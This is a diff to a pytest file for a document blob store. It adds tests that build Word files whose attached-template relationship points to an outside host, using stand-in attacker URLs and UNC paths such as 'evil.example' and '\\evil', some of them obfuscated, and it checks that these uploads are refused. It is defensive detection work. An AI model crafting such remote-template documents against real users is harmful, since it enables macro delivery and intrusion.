@@ -13,6 +13,7 @@ import pytest
 
 from processes.errors import KsddError, TooLarge, WrongType
 from processes.store.documents import BlobStore, clean_filename, sniff
+from processes.store.file_kinds import DOCX
 
 LIMIT = 20 * 1024 * 1024
 PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
@@ -200,6 +201,28 @@ def test_what_is_not_what_it_claims_is_refused_and_not_kept(
     assert caught.value.status == 415
     assert len(caught.value.say("id")) > 40
     assert len(caught.value.say("en")) > 40
+
+
+def referring_to(place: str, mode: str = "External") -> bytes:
+    """A Word file with a template at a place."""
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    link = f'<Relationship Id="r" Type="{kind}" Target="{place}" TargetMode="{mode}"/>'
+    listed = f"<!-- x --><Relationships>{link}</Relationships>".encode()
+    return office_file(**{"word/_rels/settings.xml.rels": listed})
+
+
+@pytest.mark.parametrize(
+    "place",
+    ["http://evil.example/x.dotm", "&#104;ttps://evil.example", "\\\\evil\\x.dotm", "//evil/x"],
+)
+def test_a_template_on_another_machine_is_refused(blobs: BlobStore, place: str) -> None:
+    with pytest.raises(WrongType, match="templat"):
+        blobs.add(io.BytesIO(referring_to(place)), LIMIT, "x.docx")
+
+
+@pytest.mark.parametrize("place", ["file:///C:\\Users\\Sari\\Normal.dotm", "Normal.dotm"])
+def test_a_template_on_the_own_machine_is_nobodys_harm(blobs: BlobStore, place: str) -> None:
+    assert blobs.add(io.BytesIO(referring_to(place)), LIMIT, "x.docx").media_type == DOCX
 
 
 def test_a_macro_named_only_in_the_content_types_is_refused(tmp_path: Path) -> None:
